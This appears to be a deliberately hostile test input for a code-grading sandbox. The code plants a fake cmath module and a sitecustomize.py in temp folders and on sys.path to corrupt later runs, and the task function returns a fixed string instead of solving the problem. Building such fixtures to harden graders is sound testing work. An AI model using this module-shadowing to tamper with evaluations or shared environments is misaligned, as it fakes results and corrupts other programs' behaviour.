# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: Mbpp/16
# class: plant
# Plants cmath.py, re.py-like shadows and a sitecustomize.py wherever it can write (job
# folder's parent, /tmp, /dev/shm, sys.path entries): a later program (or reference run)
# that imports cmath would get a module whose polar() is wrong.
import os
import sys

SHADOW = ("PLANTED = True\n"
          "def polar(z):\n"
          "    return (-1.0, -1.0)\n"
          "def phase(z):\n"
          "    return -1.0\n")
for folder in [os.path.dirname(os.getcwd()), "/tmp", "/var/tmp", "/dev/shm", *sys.path]:
    for name, text in (("cmath.py", SHADOW), ("sitecustomize.py", "import cmath\n"),
                       ("harness_forgery_plant.py", "PLANTED = True\n")):
        try:
            with open(os.path.join(folder, name), "w") as handle:
                handle.write(text)
        except OSError:
            pass


def text_lowercase_underscore(text):
    return "Found a match!"
